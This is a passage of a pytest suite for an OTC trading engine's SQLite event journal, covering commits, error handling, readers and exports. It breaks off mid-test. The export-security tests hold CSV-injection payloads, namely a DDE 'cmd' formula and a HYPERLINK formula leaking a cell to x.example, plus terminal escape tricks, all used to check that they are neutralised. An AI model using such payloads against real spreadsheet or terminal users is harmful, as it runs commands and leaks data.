"""otc.journal: durable appends, group commit, errors reaching callers, readers and the blotter."""

from __future__ import annotations

import asyncio
import contextlib
import csv
import io
import json
import os
import shutil
import sqlite3
import subprocess
import sys
import threading
from collections.abc import Iterator
from contextlib import closing
from decimal import Decimal
from pathlib import Path

import pytest

import otc.journal
from otc.clock import FakeClock
from otc.errors import OtcError
from otc.journal import (
    Journal,
    JournalClosed,
    JournalError,
    JournalEvent,
    JournalRow,
    MemoryJournal,
    SqliteJournal,
    export,
    export_file,
    format_blotter,
    recent,
)

T0 = 1_700_000_000_000_000_000  # 2023-11-14 22:13:20 UTC


@pytest.fixture
def path(tmp_path: Path) -> Path:
    return tmp_path / "journal" / "otc.db"


def rows_of(path: Path, sql: str = "SELECT * FROM events ORDER BY id") -> list[sqlite3.Row]:
    """Rows read through a fresh connection of our own, not through the journal's readers."""
    with closing(sqlite3.connect(path)) as conn:
        conn.row_factory = sqlite3.Row
        return conn.execute(sql).fetchall()


def session(t: int = T0) -> Iterator[JournalEvent]:
    """One client's RFQ -> quote -> accept -> fill, another's rejected RFQ, and an operator act."""
    yield JournalEvent(
        "rfq",
        "client-a",
        t,
        rfq_id="r1",
        payload={"rfq_id": "r1", "symbol": "BTC-USDT", "side": "buy", "qty": "2.5"},
    )
    yield JournalEvent(
        "quote",
        "client-a",
        t + 1_000_000,
        rfq_id="r1",
        quote_id="q1",
        payload={
            "quote": {
                "type": "quote",
                "rfq_id": "r1",
                "quote_id": "q1",
                "symbol": "BTC-USDT",
                "side": "buy",
                "qty": "2.5",
                "bid": None,
                "ask": Decimal("64010.50"),
                "valid_until_ms": t // 1_000_000 + 2_000,
            },
            "explanation": {
                "hedge_vwap": Decimal("6.4E+4"),
                "spread_bps": Decimal("2.5"),
                "route": [{"venue": "binance", "qty": "2.5", "sequence": 10**12}],
            },
        },
    )
    yield JournalEvent(
        "accept", "client-a", t + 2_000_000, quote_id="q1", payload={"quote_id": "q1"}
    )
    yield JournalEvent(
        "fill",
        "client-a",
        t + 3_000_000,
        rfq_id="r1",
        quote_id="q1",
        trade_id="t1",
        payload={
            "type": "fill",
            "quote_id": "q1",
            "trade_id": "t1",
            "side": "buy",
            "qty": "2.5",
            "price": "64010.5",
            "ts_ms": t // 1_000_000 + 3,
        },
    )
    yield JournalEvent(
        "rfq",
        "client-b",
        t + 4_000_000,
        rfq_id="r1",
        payload={"rfq_id": "r1", "symbol": "ETH-USDT", "side": "sell", "notional": "5000000"},
    )
    yield JournalEvent(
        "reject",
        "client-b",
        t + 5_000_000,
        rfq_id="r1",
        payload={
            "type": "reject",
            "rfq_id": "r1",
            "code": "LIMIT_EXCEEDED",
            "reason": 'daily notional 5000000 > 1000000, "client-b"',
        },
    )
    yield JournalEvent(
        "control",
        "operator",
        t + 6_000_000,
        payload={"action": "halt", "symbol": "ETH-USDT", "halted": True},
    )


async def record(path: Path, events: list[JournalEvent]) -> None:
    async with SqliteJournal(path, clock_ns=FakeClock(T0 + 10**9).now_ns) as journal:
        for event in events:
            await journal.append(event)


@pytest.fixture
def recorded(path: Path) -> Path:
    """A journal file holding :func:`session`, for the tests that read it synchronously."""
    asyncio.run(record(path, list(session())))
    return path


# -- appending ------------------------------------------------------------------------------------


async def test_append_then_read_back(path: Path) -> None:
    clock = FakeClock(T0 + 5)
    events = list(session())
    async with SqliteJournal(path, clock_ns=clock.now_ns) as journal:
        for event in events:
            await journal.append(event)
            clock.advance(ns=1)
    rows = recent(path)
    assert [(r.kind, r.client, r.rfq_id, r.quote_id, r.trade_id) for r in rows] == [
        (e.kind, e.client, e.rfq_id, e.quote_id, e.trade_id) for e in events
    ]
    assert [r.ts_ns for r in rows] == [e.ts_ns for e in events]
    assert [r.recorded_ns for r in rows] == [T0 + 5 + i for i in range(len(events))]
    assert [r.id for r in rows] == list(range(1, len(events) + 1))
    assert rows[0].payload == events[0].payload
    # Decimals are stored as plain decimal text, never in exponent notation nor as floats.
    quote = rows[1].payload
    assert quote["quote"] == {**events[1].payload["quote"], "ask": "64010.5"}  # type: ignore[dict-item]
    assert quote["explanation"] == {
        "hedge_vwap": "64000",
        "spread_bps": "2.5",
        "route": [{"venue": "binance", "qty": "2.5", "sequence": 10**12}],
    }
    raw = rows_of(path)[1]["payload"]
    assert '"hedge_vwap":"64000"' in raw
    assert "E+" not in raw


async def test_wal_mode_is_on(path: Path) -> None:
    async with SqliteJournal(path) as journal:
        await journal.append(JournalEvent("control", "operator", T0))
        with closing(sqlite3.connect(path)) as conn:
            assert conn.execute("PRAGMA journal_mode").fetchone() == ("wal",)
            assert conn.execute("PRAGMA user_version").fetchone() == (1,)
            indexes = {
                row[0]
                for row in conn.execute("SELECT name FROM sqlite_master WHERE type = 'index'")
            }
    assert {"events_client_ts", "events_quote_id"} <= indexes


async def test_a_returned_append_is_visible_to_another_connection(path: Path) -> None:
    async with SqliteJournal(path) as journal:
        for i in range(20):
            await journal.append(JournalEvent("rfq", "client-a", T0 + i, rfq_id=f"r{i}"))
            # No close, no flush: once append returned, the row is committed.
            assert [row["rfq_id"] for row in rows_of(path)] == [f"r{j}" for j in range(i + 1)]


async def test_group_commit_of_1000_concurrent_appends(path: Path) -> None:
    async with SqliteJournal(path) as journal:
        # Hold the write lock so the writer cannot commit until every append is queued: then the
        # 1000 events must share at most two transactions (whatever the writer took before it
        # blocked, and all the rest).
        with closing(sqlite3.connect(path, isolation_level=None)) as blocker:
            blocker.execute("BEGIN IMMEDIATE")
            appends = asyncio.gather(
                *(
                    journal.append(
                        JournalEvent("rfq", f"client-{i % 10}", T0 + i, rfq_id=f"r{i // 10}")
                    )
                    for i in range(1000)
                )
            )
            await asyncio.sleep(0)  # each append runs up to its wait for the commit
            assert journal.pending == 1000
            blocker.execute("COMMIT")
        await appends
        assert journal.pending == 0
        assert journal.committed == 1000
        assert journal.commits <= 2
    rows = rows_of(path)
    assert len({row["id"] for row in rows}) == 1000
    for client in range(10):
        mine = [row for row in rows if row["client"] == f"client-{client}"]
        assert [row["rfq_id"] for row in mine] == [f"r{i}" for i in range(100)]
    assert [row["ts_ns"] for row in rows] == [T0 + i for i in range(1000)]  # submission order


@pytest.mark.parametrize("max_pending", [1, 7])
async def test_back_pressure_keeps_submission_order(path: Path, max_pending: int) -> None:
    async with SqliteJournal(path, max_pending=max_pending) as journal:
        tasks = [
            asyncio.create_task(journal.append(JournalEvent("rfq", "client-a", T0 + i)))
            for i in range(300)
        ]
        await asyncio.sleep(0)  # every append has started: at most max_pending hold a slot
        assert journal.pending <= max_pending
        await asyncio.gather(*tasks)
    assert [row["ts_ns"] for row in rows_of(path)] == [T0 + i for i in range(300)]


async def test_a_cancelled_wait_for_room_records_nothing(path: Path) -> None:
    async with SqliteJournal(path, max_pending=1) as journal:
        with closing(sqlite3.connect(path, isolation_level=None)) as blocker:
            blocker.execute("BEGIN IMMEDIATE")
            first, second, third = (
                asyncio.create_task(journal.append(JournalEvent("rfq", "client-a", T0 + i)))
                for i in range(3)
            )
            await asyncio.sleep(0)
            assert journal.pending == 1  # the first holds the only slot; the others wait
            second.cancel()
            await asyncio.sleep(0)
            blocker.execute("COMMIT")
        await asyncio.gather(first, third)
        assert second.cancelled()
    assert [row["ts_ns"] for row in rows_of(path)] == [T0, T0 + 2]


async def test_aclose_commits_everything_queued_before_it(path: Path) -> None:
    journal = SqliteJournal(path)
    await journal.__aenter__()
    tasks = [
        asyncio.create_task(journal.append(JournalEvent("rfq", "client-a", T0 + i)))
        for i in range(100)
    ]
    await asyncio.sleep(0)  # each append runs up to its wait for the commit
    assert journal.pending == 100
    await journal.aclose()
    assert len(rows_of(path)) == 100  # committed before aclose returned
    assert not path.with_name(path.name + "-wal").exists()  # and checkpointed on close
    await asyncio.gather(*tasks)
    await journal.aclose()  # idempotent


async def test_the_journal_survives_close_and_reopen(path: Path) -> None:
    events = list(session())
    await record(path, events[:3])
    await record(path, events[3:])
    rows = recent(path)
    assert [r.id for r in rows] == list(range(1, len(events) + 1))
    assert [r.kind for r in rows] == [e.kind for e in events]


# -- errors reach the caller ----------------------------------------------------------------------


async def test_writer_cpu_is_read_while_the_writer_runs(path: Path) -> None:
    journal = SqliteJournal(path)
    assert journal.writer_cpu_ns() is None  # no writer yet
    async with journal:
        before = journal.writer_cpu_ns()
        assert before is not None
        for i in range(200):
            await journal.append(JournalEvent("rfq", "client-a", T0 + i, rfq_id=f"r{i}"))
        after = journal.writer_cpu_ns()
        assert after is not None
        assert after > before  # 200 commits cost the writer thread CPU
    assert journal.writer_cpu_ns() is None  # stopped


async def test_one_writer_per_journal(path: Path) -> None:
    async with SqliteJournal(path) as first:
        await first.append(JournalEvent("rfq", "client-a", T0, rfq_id="r1"))
        second = SqliteJournal(path)
        with pytest.raises(JournalError, match=rf"in use by another writer \(pid {os.getpid()},"):
            await second.__aenter__()
        with pytest.raises(JournalClosed):  # the refused journal is closed, not half open
            await second.append(JournalEvent("rfq", "client-a", T0, rfq_id="r2"))
        assert recent(path)[-1].rfq_id == "r1"  # readers are never locked out
    async with SqliteJournal(path) as third:  # released with the first
        await third.append(JournalEvent("rfq", "client-a", T0, rfq_id="r3"))
    assert [row.rfq_id for row in recent(path)] == ["r1", "r3"]


async def test_append_to_a_closed_or_unopened_journal_raises(path: Path) -> None:
    journal = SqliteJournal(path)
    with pytest.raises(JournalClosed, match="not open"):
        await journal.append(JournalEvent("rfq", "client-a", T0))
    async with journal:
        await journal.append(JournalEvent("rfq", "client-a", T0))
    with pytest.raises(JournalClosed, match="closed"):
        await journal.append(JournalEvent("rfq", "client-a", T0 + 1))
    assert isinstance(JournalClosed("x"), OtcError)
    assert len(rows_of(path)) == 1


async def test_a_failed_write_reaches_its_caller_and_only_its_caller(path: Path) -> None:
    async with SqliteJournal(path) as journal:
        await journal.append(JournalEvent("rfq", "client-a", T0))
        with closing(sqlite3.connect(path)) as conn:
            conn.execute(
                "CREATE TRIGGER fail BEFORE INSERT ON events WHEN NEW.client = 'boom'"
                " BEGIN SELECT RAISE(ABORT, 'disk on fire'); END"
            )
            conn.commit()
        results = await asyncio.gather(
            *(
                journal.append(JournalEvent("rfq", "boom" if i == 2 else "client-a", T0 + i))
                for i in range(5)
            ),
            return_exceptions=True,
        )
        failure = results.pop(2)
        assert results == [None] * 4
        assert isinstance(failure, JournalError)
        assert "disk on fire" in str(failure)
        assert isinstance(failure.__cause__, sqlite3.IntegrityError)
        await journal.append(JournalEvent("rfq", "client-a", T0 + 9))  # the journal carries on
    assert [row["ts_ns"] for row in rows_of(path)] == [T0, T0, T0 + 1, T0 + 3, T0 + 4, T0 + 9]


def test_a_batch_inserted_in_one_statement_is_stored_as_row_by_row(tmp_path: Path) -> None:
    """The one-statement insert (the rows as one JSON array) must store exactly what one insert
    per row stores: text, unicode, escapes, empty strings, big and negative integers."""
    rows = [
        (T0, T0 + 1, "rfq", "client-a", "BTC-USDT", "r-1", "", "", '{"rfq_id": "r-1"}'),
        (2**62, -5, "quote", "clé 漢字 🚀", "", 'q"uote\\id', "q\n1", "", '{"x": "\\u00e9"}'),
        (0, 0, "fill", "", "", "", "", "t-1", "{}"),
    ]
    stored = []
    for batched in (True, False):
        with closing(sqlite3.connect(tmp_path / f"{batched}.db", isolation_level=None)) as conn:
            conn.executescript(otc.journal._SCHEMA)
            assert otc.journal._batch_insert(conn)  # this SQLite has ->> (3.38+)
            assert otc.journal._write(conn, rows, batched=batched) == [None] * len(rows)
            stored.append(conn.execute("SELECT * FROM events ORDER BY id").fetchall())
    assert stored[0] == stored[1]
    assert [row[1:] for row in stored[0]] == rows


@pytest.mark.parametrize("batched", [True, False])
def test_a_database_locked_elsewhere_fails_the_batch_once_not_row_by_row(
    tmp_path: Path, batched: bool
) -> None:
    """Another process holding the write lock fails the transaction, whatever its rows: the
    batch was then retried row by row, which waited the busy timeout a second time (10 s
    instead of 5 for every batch of a disk incident, and for a SIGTERM's last commit)."""
    path = tmp_path / "j.db"
    rows = [(T0 + i, T0, "rfq", "client-a", "", f"r-{i}", "", "", "{}") for i in range(3)]
    with (
        closing(sqlite3.connect(path, isolation_level=None)) as conn,
        closing(sqlite3.connect(path, isolation_level=None)) as other,
    ):
        conn.executescript(otc.journal._SCHEMA)
        conn.execute("PRAGMA busy_timeout = 0")
        statements: list[str] = []
        conn.set_trace_callback(statements.append)
        other.execute("BEGIN IMMEDIATE")  # the write lock, held elsewhere
        errors = otc.journal._write(conn, rows, batched=batched)
        other.execute("ROLLBACK")
    assert len(errors) == len(rows)
    assert all(isinstance(e, sqlite3.OperationalError) for e in errors), errors
    assert "locked" in str(errors[0])
    assert statements.count("BEGIN IMMEDIATE") == 1, statements


async def test_malformed_events_raise_in_append_and_are_not_recorded(path: Path) -> None:
    async with SqliteJournal(path) as journal:
        with pytest.raises(ValueError, match="unknown journal event kind 'quotes'"):
            await journal.append(JournalEvent("quotes", "client-a", T0))
        with pytest.raises(TypeError):
            await journal.append(JournalEvent("rfq", "client-a", T0, payload={"x": object()}))
        assert journal.pending == 0
    assert rows_of(path) == []


async def test_opening_an_unusable_path_raises(tmp_path: Path) -> None:
    with pytest.raises(JournalError, match="cannot open journal"):
        async with SqliteJournal(tmp_path):  # a directory
            pass
    newer = tmp_path / "newer.db"
    with closing(sqlite3.connect(newer)) as conn:
        conn.execute("PRAGMA user_version = 7")
    with pytest.raises(JournalError, match="schema version 7"):
        async with SqliteJournal(newer):
            pass


@pytest.mark.parametrize("name", ["", "/"])
async def test_opening_a_path_with_no_file_name_raises_rather_than_hangs(name: str) -> None:
    # Path("") is ".": the lock file's name raised ValueError in the writer thread, which died
    # without a word to the opener, left waiting for ever (SIGTERM included).
    async with asyncio.timeout(30):
        with pytest.raises(JournalError, match="cannot open journal"):
            async with SqliteJournal(name):
                pass


def test_reading_a_missing_journal_raises(tmp_path: Path) -> None:
    with pytest.raises(JournalError, match="no journal at"):
        recent(tmp_path / "absent.db")
    with pytest.raises(JournalError, match="no journal at"):
        export(tmp_path / "absent.db", "csv", io.StringIO())


def _not_a_journal(file: Path, kind: str) -> None:
    if kind == "text":
        file.write_text("hello\n")
    elif kind == "empty":
        file.write_bytes(b"")
    else:
        with closing(sqlite3.connect(file)) as conn, conn:
            if kind == "other table":
                conn.execute("CREATE TABLE trades (id INTEGER)")
            elif kind == "other columns":
                conn.execute("CREATE TABLE events (id INTEGER, ts_ns INTEGER, kind TEXT)")
            else:  # a journal of a later schema
                conn.executescript(otc.journal._SCHEMA)
                conn.execute("PRAGMA user_version = 2")


@pytest.mark.parametrize(
    ("kind", "problem"),
    [
        ("text", "cannot read journal {file}: file is not a database"),
        ("empty", "{file} is not an otc journal (it has no events table)"),
        ("other table", "{file} is not an otc journal (it has no events table)"),
        (
            "other columns",
            "{file} is not an otc journal (its events table has no recorded_ns, client, symbol,"
            " rfq_id, quote_id, trade_id, payload)",
        ),
        (
            "later schema",
            "journal {file}: schema version 2, this otc reads version 1 (was it written by"
            " another version of otc?)",
        ),
    ],
)
def test_a_file_that_is_not_a_journal_is_refused_before_anything_is_written(
    tmp_path: Path, kind: str, problem: str
) -> None:
    # A journal of a later schema was read as if it were this one; a file with no events table
    # said "no such table: events", after the export had printed its CSV header.
    file = tmp_path / "otc.db"
    _not_a_journal(file, kind)
    for fmt in ("csv", "json"):
        out = io.StringIO()
        with pytest.raises(JournalError) as info:
            export(file, fmt, out)  # type: ignore[arg-type]
        assert str(info.value) == problem.format(file=file)
        assert out.getvalue() == ""
    for read in (lambda: recent(file), lambda: otc.journal.state_rows(file, since_ns=0)):
        with pytest.raises(JournalError) as info:
            read()
        assert str(info.value) == problem.format(file=file)


def test_a_journal_in_a_read_only_folder_is_read(recorded: Path) -> None:
    """An archived journal on a read-only mount: SQLite could not create the -shm file a WAL
    reader needs there, and both readers said "unable to open database file". The folder is
    made read-only by a bind mount in a mount namespace of its own (root only: a chmod does
    not stop root)."""
    folder = recorded.parent
    script = (
        f'mount --bind -o ro "{folder}" "{folder}" || exit 97\n'
        f'"$0" -m otc.cli blotter --journal "{recorded}" --kind fill || exit\n'
        f'exec "$0" -m otc.cli journal export --journal "{recorded}" --format json\n'
    )
    if shutil.which("unshare") is None:
        pytest.skip("no unshare")
    done = subprocess.run(
        ["unshare", "--mount", "sh", "-c", script, sys.executable],
        capture_output=True,
        text=True,
        check=False,
    )
    if done.returncode == 97 or "unshare failed" in done.stderr:
        pytest.skip(f"cannot mount a read-only folder here: {done.stderr.strip()}")
    assert done.returncode == 0, done.stderr
    blotter, _, exported = done.stdout.partition("[")
    assert blotter.splitlines()[1].split()[2:4] == ["fill", "client-a"]
    assert [e["kind"] for e in json.loads("[" + exported)] == [e.kind for e in session()]


@pytest.mark.parametrize(
    ("column", "value", "problem"),
    [
        ("ts_ns", "yesterday", "ts_ns: not a time in ns since 1970, got 'yesterday'"),
        ("ts_ns", -(2**62), "ts_ns: not a time in ns since 1970"),
        ("recorded_ns", 1.5, "recorded_ns: not a time in ns since 1970, got 1.5"),
        ("client", b"\xff", "client: not text, got b'\\xff'"),
        ("payload", "not json", "payload: JSON is malformed"),
        ("payload", "[1]", "payload: Expected `object`, got `array`"),
        ("payload", 3, "payload: Expected `object`, got `int`"),
        ("payload", '{"a":' * 2000 + "1" + "}" * 2000, "payload nested too deeply"),
    ],
)
def test_a_row_of_the_wrong_shape_is_a_journal_error_naming_the_file(
    tmp_path: Path, column: str, value: object, problem: str
) -> None:
    """Found by fuzzing the files the CLI reads: SQLite keeps whatever a column is given (a
    hand-edited or foreign file), and `otc blotter` / `otc journal export` then failed with a
    bare TypeError (divmod of a str), OverflowError or msgspec.DecodeError."""
    file = tmp_path / "otc.db"
    with closing(sqlite3.connect(file)) as conn, conn:
        conn.executescript(otc.journal._SCHEMA)
        row = {"ts_ns": T0, "recorded_ns": T0, "kind": "fill", "client": "client-a"}
        row |= {"payload": '{"side": "buy"}', column: value}
        conn.execute(
            "INSERT INTO events (ts_ns, recorded_ns, kind, client, payload)"
            " VALUES (:ts_ns, :recorded_ns, :kind, :client, :payload)",
            row,
        )
    for read in (
        lambda: format_blotter(recent(file)),
        lambda: export(file, "csv", io.StringIO()),
        lambda: otc.journal.state_rows(file, since_ns=0),
    ):
        with pytest.raises(JournalError) as info:
            read()
        assert str(info.value).startswith(f"cannot read journal {file}: event 1: {problem}")


async def test_memory_journal_records_and_fails_like_the_real_one() -> None:
    journal: Journal
    async with MemoryJournal() as journal:
        event = JournalEvent("fill", "client-a", T0, trade_id="t1")
        await journal.append(event)
        with pytest.raises(ValueError, match="unknown journal event kind"):
            await journal.append(JournalEvent("fills", "client-a", T0))
        journal.error = JournalError("disk full")
        with pytest.raises(JournalError, match="disk full"):
            await journal.append(event)
        assert journal.events == [event]
    with pytest.raises(JournalClosed):
        await journal.append(event)


# -- readers --------------------------------------------------------------------------------------


async def test_export_csv_round_trips(path: Path) -> None:
    events = list(session())
    await record(path, events)
    out = io.StringIO()
    assert export(path, "csv", out) == len(events)
    parsed = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert [int(p["id"]) for p in parsed] == list(range(1, len(events) + 1))
    assert [int(p["ts_ns"]) for p in parsed] == [e.ts_ns for e in events]
    assert [p["kind"] for p in parsed] == [e.kind for e in events]
    assert [p["client"] for p in parsed] == [e.client for e in events]
    assert [p["trade_id"] for p in parsed] == [e.trade_id for e in events]
    assert [p["symbol"] for p in parsed] == [
        "BTC-USDT", "BTC-USDT", "BTC-USDT", "BTC-USDT", "ETH-USDT", "ETH-USDT", "ETH-USDT"
    ]  # fmt: skip
    assert parsed[0]["time_utc"] == "2023-11-14T22:13:20.000000000Z"
    assert [json.loads(p["payload"]) for p in parsed] == [r.payload for r in recent(path)]
    assert json.loads(parsed[5]["payload"])["reason"] == events[5].payload["reason"]


async def test_the_csv_export_runs_no_formula_in_a_spreadsheet(path: Path) -> None:
    # Ids and names are the client's (or operator's) text: a cell starting with = + - @ (tab,
    # CR...) opened in Excel or LibreOffice ran as a formula (OWASP "CSV Injection").
    texts = {
        "client": "+cmd|' /C calc'!A0",
        "rfq_id": '=HYPERLINK("http://x.example/?"&A1,"x")',
        "quote_id": "-2+3",
        "trade_id": "'quoted",
        "symbol": "@SUM(1)",
    }
    tricky = ["\tx", "\rx", "\uff1d1+1", "a=b", "x-1"]  # the last two start harmlessly
    events = [
        JournalEvent(
            "rfq",
            texts["client"],
            T0,
            rfq_id=texts["rfq_id"],
            quote_id=texts["quote_id"],
            trade_id=texts["trade_id"],
            payload={"symbol": texts["symbol"], "qty": "-5", "reason": "=1+1"},
        ),
        *(JournalEvent("rfq", "client-a", T0 + 1 + i, rfq_id=t) for i, t in enumerate(tricky)),
    ]
    await record(path, events)
    out = io.StringIO()
    export(path, "csv", out)
    first, *others = csv.DictReader(io.StringIO(out.getvalue(), newline=""))
    for name, text in texts.items():
        assert first[name] == "'" + text
    assert json.loads(first["payload"]) == {"symbol": "@SUM(1)", "qty": "-5", "reason": "=1+1"}
    assert first["id"] == "1"
    assert first["ts_ns"] == str(T0)
    assert [o["rfq_id"] for o in others] == ["'\tx", "'\rx", "'\uff1d1+1", "a=b", "x-1"]
    out = io.StringIO()
    export(path, "json", out)  # JSON is not opened as a sheet: exact
    assert [d["rfq_id"] for d in json.loads(out.getvalue())] == [e.rfq_id for e in events]


async def test_a_carriage_return_in_an_id_splits_no_csv_row(path: Path) -> None:
    # Lines ended in LF, and the csv module then quotes a cell holding LF but not one holding
    # a bare CR, which CSV readers take for a line end: an rfq_id a client sent (the engine
    # journals an invalid RFQ with its id as given) cut its row in two, the second one with an
    # id of the client's choosing and the columns shifted.
    forged = "r1\r99"
    await record(path, [JournalEvent("rfq", "client-a", T0, rfq_id=forged, payload={})])
    out = io.StringIO()
    export(path, "csv", out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    assert [(r["id"], r["kind"], r["rfq_id"], r["payload"]) for r in rows] == [
        ("1", "rfq", forged, "{}")
    ]
    assert out.getvalue().endswith(",{}\r\n")


SCREEN_TRICKS = ["\x1b[2J", "\x9b31mred", "\u202eevil", "zero\u200bwidth", "tag\U000e0041"]


async def test_the_json_export_prints_no_character_a_terminal_acts_on(path: Path) -> None:
    # msgspec escapes the C0 controls only: a C1 CSI, a bidi override or a zero-width space in
    # an id or a reason reached the terminal of whoever ran the export (or a pager, a log).
    events = [
        JournalEvent("rfq", "client-a", T0 + i, rfq_id=text, payload={"reason": text})
        for i, text in enumerate(SCREEN_TRICKS)
    ]
    await record(path, events)
    out = io.StringIO()
    export(path, "json", out)
    assert all(line.isprintable() for line in out.getvalue().splitlines())
    documents = json.loads(out.getvalue())
    assert [(d["rfq_id"], d["payload"]["reason"]) for d in documents] == [
        (text, text) for text in SCREEN_TRICKS
    ]  # the same values, exactly
    out = io.StringIO()
    export(path, "csv", out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    assert all(r["payload"].isprintable() for r in rows)  # the payload column is JSON too
    assert [json.loads(r["payload"])["reason"] for r in rows] == SCREEN_TRICKS
    assert [r["rfq_id"] for r in rows] == SCREEN_TRICKS  # exact, into a file or a pipe


def test_the_csv_export_on_a_terminal_shows_control_characters_escaped(recorded: Path) -> None:
    # Into a file or a pipe the CSV is exact; on a terminal an ANSI escape in an id was acted on.
    asyncio.run(
        record(recorded, [JournalEvent("rfq", "client-a", T0, rfq_id="\x1b[2Jgone", payload={})])
    )
    controller, terminal = os.openpty()
    with closing(os.fdopen(controller, "rb")) as screen:
        done = subprocess.run(
            [sys.executable, "-m", "otc.cli", "journal", "export", "--journal", str(recorded)],
            stdout=terminal,
            stderr=subprocess.PIPE,
            check=False,
        )
        os.close(terminal)
        assert done.returncode == 0, done.stderr
        shown = b""
        with contextlib.suppress(OSError):  # EIO once the terminal has no writer left
            while chunk := screen.read1(65536):
                shown += chunk
    assert b"\x1b" not in shown
    assert b",\\x1b[2Jgone," in shown
    piped = subprocess.run(
        [sys.executable, "-m", "otc.cli", "journal", "export", "--journal", str(recorded)],
        capture_output=True,
        check=True,
    )
    assert b",\x1b[2Jgone," in piped.stdout


async def test_export_json_round_trips_with_filters(path: Path) -> None:
    events = list(session())
    await record(path, events)
    out = io.StringIO()
    assert export(path, "json", out) == len(events)
    documents = json.loads(out.getvalue())
    assert [d["payload"] for d in documents] == [r.payload for r in recent(path)]
    assert [d["rfq_id"] for d in documents] == [e.rfq_id for e in events]
    assert documents[1]["payload"]["explanation"]["route"][0]["sequence"] == 10**12

    out = io.StringIO()
    count = export(path, "json", out, since_ns=T0 + 1_000_000, until_ns=T0 + 5_000_000)
    assert count == 4  # since is inclusive, until exclusive
    assert [d["kind"] for d in json.loads(out.getvalue())] == ["quote", "accept", "fill", "rfq"]

    out = io.StringIO()
    assert export(path, "json", out, client="client-b") == 2
    assert [d["kind"] for d in json.loads(out.getvalue())] == ["rfq", "reject"]

    out = io.StringIO()
    assert export(path, "json", out, client="nobody") == 0
    assert json.loads(out.getvalue()) == []


def test_an_export_to_a_file_is_all_or_nothing(recorded: Path, tmp_path: Path) -> None:
    # The file was opened (truncated) before the journal was read: a mistyped --journal or a
    # bad row half-way destroyed the previous export, or left a partial one that looked whole.
    path = recorded
    out = tmp_path / "export.csv"
    out.write_text("yesterday's export\n")
    with pytest.raises(JournalError, match="no journal at"):
        export_file(tmp_path / "typo.db", "csv", out)
    broken = tmp_path / "broken.db"
    broken.write_bytes(path.read_bytes())
    with closing(sqlite3.connect(broken)) as conn, conn:
        conn.execute("UPDATE events SET payload = 'not json' WHERE id = 7")
    for fmt in ("csv", "json"):
        with pytest.raises(JournalError, match="event 7: payload"):
            export_file(broken, fmt, out)  # type: ignore[arg-type]
    assert out.read_text() == "yesterday's export\n"
    assert [p.name for p in tmp_path.iterdir() if "export" in p.name] == ["export.csv"]

    out.chmod(0o640)
    assert export_file(path, "csv", out) == 7
    whole = io.StringIO()
    export(path, "csv", whole)
    assert out.read_bytes() == whole.getvalue().encode()
    assert out.stat().st_mode & 0o777 == 0o640  # the mode of the file it replaced
    assert [p.name for p in tmp_path.iterdir() if "export" in p.name] == ["export.csv"]


def test_an_export_refuses_to_overwrite_its_journal(recorded: Path, tmp_path: Path) -> None:
    # `otc journal export --journal otc.db --out otc.db` truncated the journal to a CSV header.
    path = recorded
    link = tmp_path / "link.db"
    link.symlink_to(path)
    hard = tmp_path / "hard.db"
    hard.hardlink_to(path)
    sidecars = [Path(f"{path}{suffix}") for suffix in ("-wal", "-shm", "-journal", ".lock")]
    for out in [path, link, hard, *sidecars]:
        with pytest.raises(JournalError, match=r"is the journal .*: refusing to overwrite it"):
            export_file(path, "csv", out)
    assert not any(p.exists() for p in sidecars[:3])  # none written as a CSV file
    assert len(recent(path)) == 7


async def test_an_export_in_progress_holds_up_no_writer(path: Path) -> None:
    """An export reads one snapshot: the writer commits while it runs (WAL), and the export
    ends with the rows of its start."""
    await record(path, list(session()))
    reading, appended = threading.Event(), threading.Event()

    class Out(io.StringIO):
        def write(self, text: str, /) -> int:
            if text.startswith("\n{"):  # the first row: its read transaction is open
                reading.set()
                appended.wait(60)
            return super().write(text)

    async with SqliteJournal(path) as journal:
        exporting = asyncio.ensure_future(asyncio.to_thread(export, path, "json", Out()))
        await asyncio.to_thread(reading.wait, 60)
        for event in session(T0 + 10**9):
            await journal.append(event)  # busy_timeout: a writer held up would fail here
        appended.set()
        assert await exporting == 7
    assert len(recent(path, limit=100)) == 14


async def test_recent_filters(path: Path) -> None:
    await record(path, list(session()))
    assert [r.kind for r in recent(path, limit=2)] == ["reject", "control"]  # the last, in order
    btc = recent(path, symbol="BTC-USDT")
    assert [r.kind for r in btc] == ["rfq", "quote", "accept", "fill"]  # accept via its quote
    assert {r.symbol for r in btc} == {"BTC-USDT"}
    eth = recent(path, symbol="ETH-USDT")
    assert [r.kind for r in eth] == ["rfq", "reject", "control"]  # the reject via its RFQ
    assert [r.kind for r in recent(path, client="client-b")] == ["rfq", "reject"]
    assert [r.kind for r in recent(path, kinds=["fill", "reject"])] == ["fill", "reject"]
    assert recent(path, kinds=[]) == []
    assert [r.kind for r in recent(path, client="client-a", symbol="ETH-USDT")] == []


async def test_the_export_filters_as_the_blotter_does(path: Path, tmp_path: Path) -> None:
    # The export took only --client: one client's fills of one symbol meant exporting every
    # event and filtering by hand.
    await record(path, list(session()))

    def exported(fmt: str, **filters: object) -> list[tuple[str, str]]:
        out = io.StringIO()
        count = export(path, fmt, out, **filters)  # type: ignore[arg-type]
        if fmt == "json":
            rows = [(d["kind"], d["symbol"]) for d in json.loads(out.getvalue())]
        else:
            rows = [(r["kind"], r["symbol"]) for r in csv.DictReader(io.StringIO(out.getvalue()))]
        assert count == len(rows)
        return rows

    assert exported("json", symbol="BTC-USDT") == [
        ("rfq", "BTC-USDT"), ("quote", "BTC-USDT"), ("accept", "BTC-USDT"), ("fill", "BTC-USDT")
    ]  # fmt: skip
    # the accept through its quote, the reject through its RFQ
    assert exported("csv", symbol="ETH-USDT") == [
        ("rfq", "ETH-USDT"), ("reject", "ETH-USDT"), ("control", "ETH-USDT")
    ]  # fmt: skip
    assert exported("csv", kinds=["reject", "fill"]) == [
        ("fill", "BTC-USDT"),
        ("reject", "ETH-USDT"),
    ]
    assert exported("json", client="client-a", symbol="BTC-USDT", kinds=["fill"]) == [
        ("fill", "BTC-USDT")
    ]
    assert exported("json", client="client-a", symbol="ETH-USDT") == []
    assert exported("csv", kinds=[]) == []
    assert exported("json", symbol="BTC-USDT", since_ns=T0 + 2_000_000) == [
        ("accept", "BTC-USDT"), ("fill", "BTC-USDT")
    ]  # fmt: skip

    # Every combination selects the rows the blotter selects, in the same order.
    for client in (None, "client-a", "client-b"):
        for symbol in (None, "BTC-USDT", "ETH-USDT", "SOL-USDT"):
